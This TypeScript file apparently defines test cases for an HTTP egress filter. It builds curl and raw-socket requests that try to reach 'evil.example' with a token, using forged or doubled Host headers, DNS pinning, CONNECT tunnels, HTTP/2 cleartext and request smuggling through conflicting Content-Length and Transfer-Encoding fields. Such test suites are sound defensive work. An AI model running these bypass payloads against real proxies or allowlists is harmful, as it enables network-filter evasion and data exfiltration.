import { type Attack, cdn4, curl, evil4, pin, py } from './attack.js';

/** A request by hand to a shared address, where `cdn.example` is listed. `\r\n` are written out in `lines`. */
const request = (
  name: string,
  lines: (token: string) => readonly string[],
  body = (_token: string): string => '',
): Attack => ({
  name,
  script: (t) => py('raw', cdn4, 80, `${lines(t).join('\\r\\n')}\\r\\n\\r\\n${body(t)}`),
});

const foreign = (t: string): string => `GET /${t} HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n`;
const post = 'POST / HTTP/1.1';
const listed = 'Host: cdn.example';
/** The foreign request behind the end of an empty chunked body. */
const behindChunks = (t: string): string => `0\\r\\n\\r\\n${foreign(t)}`;
const length = (text: string): number => text.replaceAll(/\\r|\\n/g, '.').length;

const hosts: readonly Attack[] = [
  {
    name: 'a listed name pinned to a foreign address, HTTP',
    script: (t) => curl(`http://allowed.example/${t}`, pin('allowed.example', 80, evil4)),
  },
  {
    name: 'a foreign Host at a shared address',
    script: (t) =>
      `${curl('http://cdn.example/')}; ${curl(`http://evil.example/${t}`, pin('evil.example', 80, cdn4))}`,
  },
  request('HTTP without Host', (t) => [`GET /${t} HTTP/1.0`]),
  request('HTTP 0.9', (t) => [`GET /${t}`]),
  request('an empty Host', (t) => [`GET /${t} HTTP/1.1`, 'Host:']),
  request('two Hosts, the foreign one last', (t) => [`GET /${t} HTTP/1.1`, listed, 'Host: evil.example']),
  request('two Hosts, the foreign one first', (t) => [`GET /${t} HTTP/1.1`, 'Host: evil.example', listed]),
  request('two hosts in one Host, the foreign one first', (t) => [
    `GET /${t} HTTP/1.1`,
    'Host: evil.example, cdn.example',
  ]),
  request('two hosts in one Host, the foreign one last', (t) => [
    `GET /${t} HTTP/1.1`,
    'Host: cdn.example, evil.example',
  ]),
  request('a foreign host behind a port of a listed one', (t) => [
    `GET /${t} HTTP/1.1`,
    'Host: cdn.example:80@evil.example',
  ]),
  request('a listed name as the user of a foreign host', (t) => [
    `GET /${t} HTTP/1.1`,
    'Host: cdn.example@evil.example',
  ]),
  request('a foreign host before a port that is a listed name', (t) => [
    `GET /${t} HTTP/1.1`,
    'Host: evil.example:cdn.example',
  ]),
  request('a Host with a tab in it', (t) => [`GET /${t} HTTP/1.1`, 'Host: evil.example\\tcdn.example']),
  request('a Host with a slash in it', (t) => [`GET /${t} HTTP/1.1`, 'Host: evil.example/cdn.example']),
  request('a Host with a number sign in it', (t) => [`GET /${t} HTTP/1.1`, 'Host: evil.example#cdn.example']),
  request('a Host with a NUL in it', (t) => [`GET /${t} HTTP/1.1`, 'Host: cdn.example\\x00evil.example']),
  ...[',', '/', '#', '@', ':', '?', ' ', '\\t', '\\x00'].map((mark) =>
    request(`a foreign host before "${mark}" and a listed suffix`, (t) => [
      `GET /${t} HTTP/1.1`,
      `Host: evil.example${mark}x.wide.example`,
    ]),
  ),
  request('a Host on a folded line', (t) => [`GET /${t} HTTP/1.1`, 'Host: cdn.example', ' evil.example']),
  request('a Host that begins on a folded line', (t) => [
    `GET /${t} HTTP/1.1`,
    'Host:',
    ' evil.example',
    listed,
  ]),
  request('a space before the colon', (t) => [`GET /${t} HTTP/1.1`, 'Host : evil.example', listed]),
  request('an absolute address with a foreign host', (t) => [
    `GET http://evil.example/${t} HTTP/1.1`,
    listed,
  ]),
  request('an absolute https address', (t) => [`GET https://evil.example/${t} HTTP/1.1`, listed]),
  request('CONNECT through a listed site', (t) => ['CONNECT evil.example:80 HTTP/1.1', listed, `X: ${t}`]),
  request('CONNECT to an address', (t) => [`CONNECT ${evil4}:443 HTTP/1.1`, `Host: ${evil4}:443`, `X: ${t}`]),
  request('line ends without carriage return', (t) => [
    `GET /${t} HTTP/1.1\\nHost: evil.example\\nX: y`,
    listed,
  ]),
  request('another protocol on port 80', (t) => [`SSH-2.0-${t}`]),
  {
    name: 'TLS on port 80',
    script: (t) => py('hello', cdn4, 80, t, JSON.stringify({ names: ['TOKEN.evil.example'] })),
  },
];

const later: readonly Attack[] = [
  request('a foreign Host in the second request of a connection', () => ['GET / HTTP/1.1', listed], foreign),
  { name: 'a foreign Host after sixty good requests', script: (t) => py('pipeline', cdn4, 80, t) },
  { name: 'HTTP/2 in clear text', script: (t) => py('http2', cdn4, 80, t) },
  { name: 'an upgrade to HTTP/2 in clear text', script: (t) => py('http2_upgrade', cdn4, 80, t) },
  {
    name: 'the proxy asked by hand',
    script: (t) =>
      `${curl(`http://evil.example/${t}`, "-x 'http://127.0.0.1:15080'")}; ${curl(`http://evil.example/${t}`)}`,
  },
  {
    name: 'the proxy asked by hand for a tunnel',
    script: (t) =>
      `${curl(`https://evil.example/${t}`, "-x 'http://127.0.0.1:15080'")}; ${curl(`https://evil.example/${t}`)}`,
  },
];

/** What one side takes for the body of a good request is a foreign request to the other. */
const smuggled: readonly Attack[] = [
  ['a length and chunks', ['Transfer-Encoding: chunked']],
  ['chunks in capitals', ['Transfer-Encoding: CHUNKED']],
  ['chunks behind a tab', ['Transfer-Encoding:\\tchunked']],
  ['chunks with a space before the colon', ['Transfer-Encoding : chunked']],
  ['chunks on a folded line', ['Transfer-Encoding:', ' chunked']],
  ['chunks twice', ['Transfer-Encoding: chunked', 'Transfer-Encoding: identity']],
  ['chunks behind another coding', ['Transfer-Encoding: identity, chunked']],
  ['chunks that are nearly spelt so', ['Transfer-Encoding: xchunked']],
].map(([name = '', fields]) =>
  request(
    `a request behind ${name}`,
    (t) => [post, listed, `Content-Length: ${length(behindChunks(t))}`, ...(fields ?? [])],
    behindChunks,
  ),
);

const lengths: readonly Attack[] = [
  request(
    'a request between two lengths',
    (t) => [post, listed, 'Content-Length: 0', `Content-Length: ${length(foreign(t))}`],
    foreign,
  ),
  request('a request behind a length of zero', () => [post, listed, 'Content-Length: 0'], foreign),
  request('a request behind a length with a sign', () => [post, listed, 'Content-Length: +0'], foreign),
  request(
    'a request behind a chunk with odd line ends',
    () => [post, listed, 'Transfer-Encoding: chunked'],
    (t) => `0;x=\\n\\n${foreign(t)}`,
  ),
  request(
    'a request behind the body of a GET',
    () => ['GET / HTTP/1.1', listed, 'Content-Length: 3'],
    (t) => `abc${foreign(t)}`,
  ),
];

/** Requests to port 80: the Host decides, and each request of a connection is one of its own. */
export const byHttp: readonly Attack[] = [...hosts, ...later, ...smuggled, ...lengths];
